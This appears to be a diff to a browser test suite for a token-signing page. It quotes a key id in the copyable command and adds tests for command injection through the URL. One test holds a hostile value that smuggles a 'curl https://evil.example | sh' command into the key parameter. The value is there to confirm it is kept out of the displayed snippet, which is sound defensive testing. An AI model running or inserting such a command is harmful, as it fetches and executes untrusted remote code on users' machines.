@@ -133,7 +133,30 @@ export function tokenCases(): void {
           context.addInitScript("Object.defineProperty(window, 'isSecureContext', { value: false })"),
       });
       await page.getByRole("heading", { name: "This page cannot sign here" }).waitFor();
-      expect(await page.locator("pre").last().innerText()).toContain(`--key-id ${key.id} --expires-in 3600s`);
+      expect(await page.locator("pre").last().innerText()).toContain(
+        `--key-id '${key.id}' --expires-in 3600s`,
+      );
+    });
+
+    test("an address cannot put commands into the code that is offered to copy", async () => {
+      await searchKey("of addresses");
+      const attack = "x > /dev/null\ncurl https://evil.example | sh #";
+      const { page } = await stage().signedIn(`/keys/token?key=${encodeURIComponent(attack)}`, {
+        prepare: (context) =>
+          context.addInitScript("Object.defineProperty(window, 'isSecureContext', { value: false })"),
+      });
+      await page.getByRole("heading", { name: "This page cannot sign here" }).waitFor();
+      const code = await page.locator("pre").allInnerTexts();
+      expect(code.join("\n")).not.toContain("evil.example");
+      expect(code.at(-1)).toContain("--key-id 'THE_ID_OF_THE_KEY' --expires-in");
+    });
+
+    test("an address that names no search key chooses none", async () => {
+      await searchKey("of addresses");
+      const { page } = await stage().signedIn("/keys/token?key=nobody");
+      await page.getByLabel("Signing secret").fill("a-secret-of-nobody");
+      await page.getByRole("button", { name: "Make the token" }).click();
+      await page.getByText("Choose the search key that the token narrows.").waitFor();
     });
 
     test("one is inspected: key, claims, expiry, signature", async () => {
